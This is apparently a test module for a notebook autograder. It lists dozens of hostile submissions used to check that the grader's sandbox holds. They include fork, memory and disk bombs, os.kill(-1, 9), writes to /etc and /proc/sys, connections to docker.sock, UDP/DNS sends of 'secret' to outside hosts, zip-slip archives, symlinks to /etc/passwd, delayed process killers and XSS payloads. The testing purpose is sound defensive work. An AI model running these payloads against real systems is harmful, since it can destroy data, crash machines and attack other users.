"""Attacks on the machine, on the grader, and on the learner's own other questions."""

from __future__ import annotations

import os
import zipfile
from pathlib import Path

from nbformat import NotebookNode

from autograder.notebooks import find_cell
from tests.attacks.case import HONEST, Attack, harm
from tests.attacks.stealing import ENGINE

TOTAL = HONEST["total"]
TRY = """\
import contextlib, os, socket, sys
def attempt(action, *arguments):
    with contextlib.suppress(Exception): return action(*arguments)
"""
BEGIN, ENGINED = f"{TOTAL}\n{TRY}", f"{TOTAL}\n{ENGINE}"
SCRIPT = "<script>alert('planted')</script>"
MARKUP = f"{SCRIPT}<img src=x onerror=alert(1)>"
# Ends the process in another question's cell: it watches which cell runs.
WATCH = """\
import threading, time, os, signal
def watch():
    begun = get_ipython().execution_count
    while get_ipython().execution_count < begun + @AFTER@: time.sleep(0.001)
    @THEN@
threading.Thread(target=watch, daemon=True).start()
"""
FORGED_FILES = (
    ENGINE
    + """\
def do_files(self, message):
    names = ["../../up", "@CANARY@/@MARKER@", "answers/../../up", "answers/\\udcff",
             "answers/" + "n" * 190, "nb.ipynb/x", "answers", "answers/a", "answers/a/b",
             "data.csv", "score_report.json/x"]
    return {"found": {}, "sent": names, "blobs": [b"forged"] * len(names)}
before = type(server).do_files
"""
)


def _later(after: int, then: str) -> str:
    return f"{TOTAL}\n" + WATCH.replace("@AFTER@", str(after)).replace("@THEN@", then)


def _hard_link(folder: Path, root: Path) -> None:
    os.link(root.parent / "canary" / "song.txt", folder / "song.txt")


def _deep(folder: Path, root: Path) -> None:
    (folder / ("n" * 200)).write_text("long")
    (folder / "down" / "/".join("abcdefgh")).mkdir(parents=True)
    (folder / "..." / " ").mkdir(parents=True)
    (folder / "answers").symlink_to(root / "submitted")


def _zip(folder: Path, _root: Path) -> None:
    with zipfile.ZipFile(folder / "work.zip", "w") as archive:
        archive.writestr("../../../canary/song.txt", "slipped")
        archive.writestr("/nb.ipynb", "{}")


def _markup(notebook: NotebookNode) -> None:
    find_cell(notebook, "letter")["source"] = MARKUP
    notebook.metadata["title"] = MARKUP


HARMING: tuple[Attack, ...] = (
    harm(
        "write-outside",
        "write, delete and open up files around it",
        BEGIN + "for path in ('@CANARY@', '@ROOT@', '@HOME@', '..', '../..', '/', '/usr', '/etc', "
        "'/root',\n"
        "             '/dev', '/dev/pts', '/proc/1/root@CANARY@', '/var/tmp'):\n"
        "    attempt(lambda: open(path + '/@MARKER@', 'w').write('x'))\n"
        "    attempt(os.chmod, path, 0o700); attempt(os.rename, path, path + '-away')\n"
        "    attempt(os.remove, path + '/song.txt'); attempt(os.mkdir, path + '/@MARKER@-folder')",
    ),
    harm(
        "write-packages",
        "change installed packages and Python itself",
        BEGIN + "import numpy, pm_exercises\nfor module in (numpy, pm_exercises, os):\n"
        "    folder = os.path.dirname(module.__file__)\n"
        "    for name in (folder + '/@MARKER@.py', folder + '/../@MARKER@.pth', module.__file__):\n"
        "        attempt(lambda: open(name, 'a').write('#'))\n    attempt(os.utime, folder)\n"
        "attempt(lambda: open(sys.executable, 'ab').write(b'x'))",
    ),
    harm(
        "machine-settings",
        "change the kernel's settings and who may open the machine's devices",
        BEGIN + "for name, text in (('kernel/core_pattern', '|/tmp/@MARKER@'), ('kernel/pid_max', "
        "'500'),\n"
        "                   ('user/max_user_namespaces', '1'), ('vm/overcommit_memory', '2')):\n"
        "    attempt(lambda: open('/proc/sys/' + name, 'w').write(text))\n"
        "for name in ('null', 'full', 'zero'): attempt(os.chmod, '/dev/' + name, 0o600)\n"
        "attempt(lambda: open('/proc/sysrq-trigger', 'w').write('h'))",
    ),
    harm(
        "signal-others",
        "end other processes by their number",
        BEGIN + "for pid in [@VICTIM@, os.getppid(), *range(2, 3000)]:\n"
        "    if pid > 1: attempt(os.kill, pid, 9)\nattempt(os.killpg, 0, 18)",
    ),
    harm(
        "signal-all",
        "end every process there is",
        TOTAL + "\nimport os\ntry: os.kill(-1, 9)\nexcept OSError: pass",
    ),
    harm(
        "tcp",
        "connect by TCP, to this machine and to others",
        BEGIN
        + "for host, port in (('127.0.0.1', @TCP@), ('localhost', @TCP@), ('192.0.2.1', 80)):\n"
        "    attempt(socket.create_connection, (host, port), 0.2)",
    ),
    harm(
        "udp-and-dns",
        "send datagrams, and ask a name server",
        BEGIN + "out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "for host in ('127.0.0.1', '255.255.255.255', '192.0.2.1'):\n"
        "    attempt(out.sendto, b'secret', (host, @UDP@)); attempt(out.sendto, b'secret', "
        "(host, 53))\n"
        "attempt(socket.getaddrinfo, 'secret.example.com', 80)",
    ),
    harm(
        "unix-sockets",
        "connect to sockets of this machine: a path, an abstract name, a virtual machine's host",
        BEGIN
        + "for name in ('@UNIX@', '\\0@ABSTRACT@', '/run/docker.sock', '/var/run/docker.sock'):\n"
        "    attempt(socket.socket(socket.AF_UNIX).connect, name)\n"
        "attempt(lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 22)))\n"
        "attempt(lambda: socket.socket(38, socket.SOCK_SEQPACKET))",
    ),
    harm(
        "fork-bomb",
        "start processes that start processes",
        TOTAL + "\nimport os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    ),
    harm(
        "thread-bomb",
        "start threads without end",
        TOTAL + "\nimport threading, time\nwhile True:\n"
        "    try: threading.Thread(target=time.sleep, args=(60,)).start()\n"
        "    except RuntimeError: pass",
    ),
    harm(
        "memory-bomb",
        "take all memory",
        TOTAL + "\nkept = []\nwhile True: kept.append(bytearray(50_000_000))",
    ),
    harm(
        "memory-kept",
        "leave nearly no memory to the questions that follow",
        f"{TOTAL}\nkept, size = [], 2 ** 26\nwhile size > 10_000:\n"
        "    try: kept.append(bytearray(size))\n    except MemoryError: size //= 2",
    ),
    harm(
        "memory-of-many",
        "take all memory with processes that each take little",
        TOTAL + "\nimport os, time\nfor _ in range(12):\n    if os.fork() == 0:\n"
        "        kept = b'x' * 150_000_000\n        time.sleep(30)\ntime.sleep(30)",
    ),
    harm(
        "memory-uncounted",
        "take memory that belongs to no process: memory files, segments, message queues, pipes",
        BEGIN + "import ctypes\nlibc = ctypes.CDLL(None)\nkept = []\nfor n in range(40):\n"
        "    file = attempt(os.memfd_create, str(n))\n    kept.append(file)\n"
        "    if file is None: break\n    attempt(os.write, file, b'x' * 15_000_000)\n"
        "else: open('/proc/self/cwd/@MARKER@', 'w')\n"
        "print([libc.shmget(n, 100_000_000, 0o1666) for n in range(100, 104)])\n"
        "assert kept == [None], kept",
    ),
    harm(
        "disk-one-file",
        "fill the disk with one file",
        BEGIN + "def fill(path):\n    with open(path, 'wb') as file:\n"
        "        while True: file.write(b'x' * 1_000_000)\n"
        "for path in ('big', '/tmp/big', '/dev/big'): attempt(fill, path)",
    ),
    harm(
        "disk-many-files",
        "fill the disk with small files",
        BEGIN + "def fill(folder):\n    os.makedirs(folder, exist_ok=True)\n"
        "    for number in range(100_000): open(f'{folder}/{number}', 'w').write('x' * 100)\n"
        "attempt(fill, 'many')",
    ),
    harm(
        "shared-memory-bomb",
        "fill /dev/shm",
        BEGIN + "def fill(number):\n    with open(f'/dev/shm/{number}', 'wb') as file:\n"
        "        while True: file.write(b'x' * 1_000_000)\n"
        "for number in range(5): attempt(fill, number)",
    ),
    harm("flood-print", "print without end", TOTAL + "\nwhile True: print('x' * 10_000)"),
    harm(
        "flood-display",
        "show without end",
        TOTAL + "\nfrom IPython.display import HTML, display\n"
        "while True: display(HTML('<b>x</b>' * 10_000))",
    ),
    harm(
        "flood-descriptor",
        "write to descriptor 1 without end",
        TOTAL + "\nimport os\nwhile True: os.write(1, b'x' * 100_000)",
    ),
    harm(
        "endless-loop",
        "never end, and catch the interrupt",
        TOTAL + "\nimport signal\nfor number in range(1, 32):\n"
        "    try: signal.signal(number, signal.SIG_IGN)\n"
        "    except (OSError, ValueError): pass\nwhile True:\n    try:\n"
        "        while True: pass\n    except BaseException: pass",
    ),
    harm(
        "endless-regex",
        "never end, in C",
        TOTAL + "\nimport re\nre.match('(a+)+$', 'a' * 60 + 'b')",
    ),
    harm(
        "endless-sum", "never end, in C that looks at no signal", TOTAL + "\nsum(range(10 ** 12))"
    ),
    harm(
        "deep-recursion",
        "recurse until the stack is over",
        TOTAL + "\nimport sys\nsys.setrecursionlimit(10 ** 9)\n"
        "def down(n): return sorted([n], key=down)\ndown(0)",
    ),
    harm("segfault", "read address 0", TOTAL + "\nimport ctypes\nctypes.string_at(0)"),
    harm("os-exit", "end the process", TOTAL + "\nimport os\nos._exit(0)"),
    harm("exit", "ask the shell to exit", TOTAL + "\nexit()"),
    harm(
        "kill-itself",
        "kill itself",
        TOTAL + "\nimport os, signal\nos.kill(os.getpid(), 9)\nsignal.raise_signal(11)",
    ),
    harm(
        "abort",
        "stop itself with a signal of C",
        TOTAL + "\nimport ctypes\nctypes.CDLL(None).abort()",
    ),
    harm(
        "close-descriptors",
        "close every descriptor it has",
        TOTAL + "\nimport os\nos.closerange(0, 256)",
    ),
    harm("ends-later", "a thread ends the process in the next question", _later(2, "os._exit(0)")),
    harm(
        "ends-much-later",
        "a thread ends the process three questions later",
        _later(6, "os._exit(0)"),
    ),
    harm(
        "segfault-later",
        "a thread ends the process in the board's question",
        _later(11, "import ctypes; ctypes.string_at(0)"),
    ),
    harm(
        "stops-later",
        "a thread holds the interpreter in another question",
        _later(3, "sum(range(10 ** 12))"),
    ),
    harm(
        "alarm",
        "a timer ends the process in whichever question stands then",
        TOTAL + "\nimport signal, threading, os\nsignal.signal(signal.SIGALRM, signal.SIG_DFL)\n"
        "signal.setitimer(signal.ITIMER_REAL, 0.02)\nthreading.Timer(0.06, os._exit, (0,)).start()",
    ),
    harm(
        "hook-ends-another",
        "an event ends the process when a certain other question comes",
        TOTAL + "\nimport os\ndef hook(info):\n    if 'letters' in info.raw_cell: os._exit(0)\n"
        "get_ipython().events.register('pre_run_cell', hook)\n"
        "import sys; sys.modules['hooks'] = hook; hook.__module__ = 'hooks'",
    ),
    harm(
        "builtin-ends-another",
        "a builtin that ends the process when it is called often enough",
        TOTAL
        + "\nimport builtins, os\nbefore, calls = builtins.sorted, []\ndef counted(*a, **k):\n"
        "    calls.append(1)\n    return before(*a, **k) if len(calls) < 2 else os._exit(0)\n"
        "builtins.sorted = counted",
    ),
    harm(
        "breaks-the-server",
        "break what answers the grader, for later questions",
        ENGINED + "before = type(server).do_get\ndef do_get(self, message):\n"
        "    if message['name'] in ('total', 'middle'): return before(self, message)\n"
        "    raise SystemExit\n"
        "type(server).do_get = do_get",
    ),
    harm(
        "daemon",
        "leave a process behind that has left the session, and writes later",
        TOTAL + "\nimport os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        for _ in range(200):\n            time.sleep(0.05)\n"
        "            try: open('@CANARY@/@MARKER@', 'w').write('alive')\n"
        "            except OSError: pass\n"
        "    os._exit(0)",
    ),
    harm(
        "zombies",
        "leave ended children that nobody waits for",
        TOTAL + "\nimport os\nfor _ in range(15):\n    if os.fork() == 0: os._exit(0)",
    ),
    harm(
        "links",
        "lay links in the folder, and write through them",
        BEGIN + "for name, goal in (('song', '@CANARY@/song.txt'), ('passwd', '/etc/passwd'), "
        "('course', '@ROOT@')):\n"
        "    attempt(os.symlink, goal, name); attempt(lambda: open(name, 'w').write('x'))\n"
        "attempt(lambda: open('course/gradebook.db', 'w').write('x'))\n"
        "attempt(os.link, '/usr/bin/env', 'hard'); attempt(os.link, '@CANARY@/song.txt', 'hard2')",
    ),
    harm(
        "links-handed-in",
        "hand in a hard link and write through it",
        TOTAL + "\nopen('song.txt', 'w').write('other song')",
        prepare=_hard_link,
    ),
    harm(
        "names-handed-in",
        "hand in long names, deep folders, and a link in the place of answers/",
        TOTAL,
        prepare=_deep,
    ),
    harm(
        "names-made",
        "make very long names and very deep folders where the grader fetches answers",
        BEGIN + "os.makedirs('answers', exist_ok=True)\nhome = os.getcwd()\n"
        "attempt(lambda: open('answers/' + 'n' * 255, 'w').write('x'))\n"
        "attempt(lambda: open(b'answers/\\xff\\xfe', 'w').write('x'))\nos.chdir('answers')\n"
        "for _ in range(400):\n    attempt(os.mkdir, 'd' * 100); attempt(os.chdir, 'd' * 100)\n"
        "os.chdir(home)",
    ),
    harm("zip", "hand in an archive with names that lead out of it", TOTAL, prepare=_zip),
    harm(
        "forged-files",
        "answer with file names that lead out of the folder, or into each other",
        TOTAL + "\n" + FORGED_FILES + "def sometimes(self, message):\n"
        "    forged, true = do_files(self, message), before(self, message)\n"
        "    both = {name: forged[name] + true[name] for name in ('sent', 'blobs')}\n"
        "    return {'found': true['found'], **both}\n"
        "type(server).do_files = sometimes",
    ),
    harm(
        "forged-outputs",
        "answer with outputs that are none, nested too deep, or no answer at all",
        ENGINED + "deep = []\nfor _ in range(400): deep = [deep]\n"
        "type(server).do_cell = lambda self, message: "
        "{'outputs': [{'output_type': 'display_data',\n"
        "    'data': {'a/json': deep, 5: 6}, 'metadata': deep}], 'count': -1, 'exit': 3}\n"
        "type(server).do_modules = lambda self, message: {'modules': [5], 'not_plain': 1}",
        worth=2.0,
    ),
    harm(
        "no-value",
        "say of a cell that it cannot be sent",
        ENGINED + "type(server).do_cell = lambda self, message: {'not_plain': 'no'}",
    ),
    harm(
        "huge-range",
        "answer with what takes no room to send and all memory to use",
        "total = range(10 ** 12)",
        worth=0.0,
    ),
    harm(
        "huge-values",
        "answer with large numbers, colliding keys and deep lists",
        "letters = {n * (2 ** 61 - 1): n for n in range(3_000)}\ndeep = []\n"
        "for _ in range(900): deep = [deep]\nletters[16 ** 3000] = deep",
        "letters",
        worth=0.0,
    ),
    harm(
        "markup-written", "put a script into the written answer", TOTAL, edit=_markup, mark=SCRIPT
    ),
    harm(
        "markup-shown",
        "put a script into outputs, exceptions and their names",
        f"from IPython.display import HTML, display\ndisplay(HTML({MARKUP!r}))\nprint({MARKUP!r})\n"
        f"class Bad(Exception): pass\nBad.__name__ = Bad.__qualname__ = {MARKUP!r}\n"
        f"def middle(xs): raise Bad({MARKUP!r})",
        "middle",
        worth=0.0,
        mark=SCRIPT,
    ),
    harm(
        "markup-in-answers",
        "put a script into an answer file: its learner, its texts and its fields",
        "pass",
        "FND-E7",
        worth=0.0,
        files={
            "answers/FND-E7.json": '{"schema": 2, "exercise": "FND-E7", "student": "@SCRIPT@", '
            '"plan": "@SCRIPT@", "checks": 1, "answer": '
            '{"bins": {"@SCRIPT@": "@SCRIPT@"}}}'.replace("@SCRIPT@", SCRIPT),
            "answers/learner.json": f'{{"student": "{SCRIPT}"}}',
        },
        mark=SCRIPT,
    ),
)
